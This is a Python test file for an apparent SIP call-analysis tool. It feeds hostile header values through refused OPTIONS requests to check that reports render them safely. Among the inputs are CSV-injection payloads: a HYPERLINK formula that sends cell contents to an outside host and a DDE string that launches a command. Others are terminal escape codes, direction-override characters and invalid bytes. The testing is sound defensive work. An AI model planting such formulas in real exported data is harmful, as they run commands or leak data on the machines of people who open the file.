# SPDX-License-Identifier: GPL-2.0-or-later
"""Words off the wire that are meant for whoever prints them: formulas, quotes, line breaks, bytes that are no text.
Each request is refused with 403, so that its words reach every column of a report."""
from scene import exchange, situation
from sip import Dialog

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"403")'
COMMAND = "+1+cmd|' /C calc'!A0"


def told_off(c, phrase, server, agent, call_id="a@example.com"):
    """OPTIONS with this User-Agent, refused with these words."""
    d = Dialog()
    d.call_id = call_id
    request = d.request("OPTIONS", extra=(("User-Agent", agent),))
    return exchange(c, d, 0, request, 403, phrase, extra=(("Server", server),))


@situation
def hostile_formulas(c):
    """A spreadsheet would run each of these: CSV injection."""
    told_off(c, FORMULA, COMMAND, "@SUM(1+1)*cmd", call_id="-2+3@example.com")
    c.expect("OPTIONS", 403, "failed", cause=None, reason=FORMULA)


@situation
def hostile_full_width(c):
    """The same in full width, which some spreadsheets fold."""
    told_off(c, "＝1＋1", "＠SUM(1)", "－1＋2")
    c.expect("OPTIONS", 403, "failed", cause=None, reason="＝1＋1")


@situation
def hostile_quotes(c):
    """What CSV, JSON, HTML and display filters quote with."""
    phrase = 'He said "no, never", twice; it\'s <b>final</b> & \\"over\\"'
    told_off(c, phrase, '"', '","', call_id='"a\\b"@example.com')
    c.expect("OPTIONS", 403, "failed", cause=None, reason=phrase)


@situation
def hostile_folds(c):
    """A value over several lines (RFC 3261 7.3.1): one line in a report."""
    told_off(c, "Forbidden", "one\r\n two\r\n\t three", "=1\r\n +2\r\n\t-3")
    c.expect("OPTIONS", 403, "failed", cause=None, reason="Forbidden")


@situation
def hostile_separators(c):
    """Characters that break lines elsewhere, turn text round or hide in it: NEL, LS, PS, RLO, BOM, vertical tab. And
    some that are just text."""
    told_off(c, "a\u2028b\u2029c\u0085d\u202ee", "\ufeff=1+1\v\f", "Grüße, 電話 ☎ \U0001F4DE")
    c.expect("OPTIONS", 403, "failed", cause=None,
             reason=r"a\xe2\x80\xa8b\xe2\x80\xa9c\xc2\x85d\xe2\x80\xaee")


@situation
def hostile_octets(c):
    """NUL, control characters and what is no UTF-8: cut short, too long, a surrogate, beyond U+10FFFF."""
    d = Dialog()
    request = d.request("OPTIONS", extra=(("User-Agent", "AGENT"),))
    response = d.answer(request, 403, "PHRASE", extra=(("Server", "SERVER"),))
    c.datagram(0, request.src, request.dst, bytes(request).replace(b"AGENT", b"a\0b\x01\x1b[31mc\x7f\x80\xff"))
    answer = bytes(response).replace(b"SERVER", b"\xf5\x80\x80\x80 \xc3")
    c.datagram(0.02, response.src, response.dst, answer.replace(b"PHRASE", b"\xe2\x80 \xc0\xaf \xed\xa0\x80"))
    c.expect("OPTIONS", 403, "failed", cause=None, reason=r"\xe2\x80 \xc0\xaf \xed\xa0\x80",
             faults=["control_or_nul_octets"])


@situation
def hostile_lengths(c):
    """Values of thousands of characters, which a record holds whole and a text report cuts."""
    told_off(c, "No " + "never " * 900 + "again", "=" * 5000, "ü" * 5000, call_id="c" * 5000)
    c.expect("OPTIONS", 403, "failed", cause=None, reason="No " + "never " * 900 + "again")
